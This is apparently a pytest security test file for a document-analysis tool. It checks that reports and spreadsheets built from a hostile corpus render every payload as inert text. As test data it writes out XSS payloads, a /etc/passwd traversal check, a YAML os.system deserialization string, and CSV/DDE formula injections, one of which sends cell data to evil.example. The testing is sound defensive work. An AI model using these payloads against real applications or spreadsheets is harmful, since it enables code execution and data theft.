"""Reports never run what a corpus says: a corpus of script payloads, a line
built to backtrack and a link to /etc/passwd runs through the whole batch,
and every payload stays inert text. This is the plain-HTML half of the proof;
tests/test_browser.py opens the same reports in Chromium."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest

from analysis import config
from analysis.codebook import CodebookError, load_codebook
from tests.conftest import PAYLOAD


class Elements(HTMLParser):
    """Every element of a page: (tag, attributes, text of a script)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str], str]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {k: v or "" for k, v in attrs}, ""))

    def handle_data(self, data):
        if self.found and self.found[-1][0] == "script" and not self.found[-1][2]:
            tag, attrs, _ = self.found.pop()
            self.found.append((tag, attrs, data))


def injected(html: str) -> list[str]:
    """What in a page could run a payload: an element the corpus made."""
    parser = Elements()
    parser.feed(html)
    bad = []
    for tag, attrs, text in parser.found:
        for name, value in attrs.items():
            if PAYLOAD in value and (name.startswith("on") or name in ("href", "src")):
                bad.append(f"<{tag} {name}={value!r}>")
        if tag == "script" and text.strip().startswith(PAYLOAD):
            bad.append(f"<script>{text[:60]}")
        if tag in ("img", "svg", "a") and PAYLOAD in str(attrs):
            bad.append(f"<{tag} {attrs}>")
    return bad


def test_malicious_corpus_runs_through_the_batch(malicious_run):
    run = malicious_run
    assert not len(run.failed), run.failed[["name", "error"]].to_string()
    assert {"overview", "deep-dive_microneedling_rosacea", "deep-dive_ipl_rosacea"} <= set(
        run.jobs["name"]
    )
    problems = dict(zip(run.problems["doc"], run.problems["problem"], strict=True))
    assert "outside the corpus" in problems["passwd.txt"]


def test_no_payload_can_run_and_each_shows_as_text(malicious_run):
    pages = [malicious_run.out / "index.html"]
    pages += [malicious_run.out / html for html in malicious_run.jobs["html"]]
    for page in pages:
        html = page.read_text()
        assert not injected(html), (page.name, injected(html))
    overview = (malicious_run.out / "overview.html").read_text()
    for shown in (
        f"&lt;img src=x onerror=&quot;{PAYLOAD}&quot;&gt;",
        f'&lt;a href="javascript:{PAYLOAD}"&gt;',
        f"&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;script&gt;{PAYLOAD}",
        f"--&gt; &lt;script&gt;{PAYLOAD}&lt;/script&gt; &lt;!--",
        f"&lt;img src=x onerror={PAYLOAD}&gt;.txt",  # a document name
    ):
        assert shown in overview, shown


def test_nothing_outside_the_corpus_is_read_or_fetched(malicious_run):
    passwd = Path("/etc/passwd").read_text().splitlines()[0]
    for path in malicious_run.out.rglob("*"):
        if path.is_file() and path.suffix in (".html", ".csv", ".json", ".ipynb"):
            assert passwd not in path.read_text(errors="replace"), path


def test_the_parser_check_catches_an_injection():
    """Negative control: the check above fails on a page that would run."""
    assert injected(f"<p>ok</p><img src=x onerror={PAYLOAD}>")
    assert injected(f"<table><td></td></table><script>{PAYLOAD}</script>")
    assert injected(f'<a href="javascript:{PAYLOAD}">x</a>')
    assert not injected(f"<p>&lt;script&gt;{PAYLOAD}&lt;/script&gt;</p>")


def test_codebook_yaml_cannot_build_python_objects(tmp_path):
    text = config.CODEBOOK.read_text().replace(
        'version: "1.0.0"', 'version: !!python/object/apply:os.system ["echo pwned"]', 1
    )
    (tmp_path / "c.yml").write_text(text)
    with pytest.raises(CodebookError, match="not valid YAML"):
        load_codebook(tmp_path / "c.yml")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Microneedling")',
    "+cmd|' /C calc'!A0 microneedling may reduce acne scars.",
    "-2+3+cmd|' /C calc'!A0 laser may cause burns.",
    "@SUM(1+1)*cmd|' /C calc'!A0 chemical peels can fade melasma.",
]


def test_claims_and_the_coding_sheet_run_no_formula_and_read_back_as_written(tmp_path):
    """OWASP CSV injection: text that opens a cell with = + - @ reaches
    claims.csv, the coding sheet and its XLSX twin with an apostrophe in
    front (a spreadsheet shows it, never runs it); reading them back gives
    the text as the corpus had it."""
    import csv

    import openpyxl

    from analysis.cli import main
    from analysis.tables import FORMULA_START, read_table

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "=cmd.txt").write_text("\n\n".join(FORMULAS) + "\n", encoding="utf-8")
    (corpus / "plain.txt").write_text(
        "Microneedling.\n\nMicroneedling may reduce acne scars.\n", encoding="utf-8"
    )
    out = tmp_path / "out"
    assert main(["extract", str(corpus), "--out", str(out / "claims.csv")]) == 0
    assert main(["sample", str(corpus), "--n", "20", "--out", str(out / "sheet.csv")]) == 0
    assert main(["sample", str(corpus), "--n", "20", "--out", str(out / "sheet.xlsx")]) == 0

    for name in ("claims.csv", "sheet.csv"):
        with (out / name).open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_START)], name
    sheet = openpyxl.load_workbook(out / "sheet.xlsx").active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    claims = read_table(out / "claims.csv")
    assert "=cmd.txt" in set(claims["doc"])
    assert any(s.startswith(("+cmd", "-2+3", "@SUM")) for s in claims["sentence"])
    for sheet_file in ("sheet.csv", "sheet.xlsx"):
        sentences = set(read_table(out / sheet_file)["sentence"])
        assert any(s.startswith(("=HYPERLINK", "+cmd", "-2+3", "@SUM")) for s in sentences)
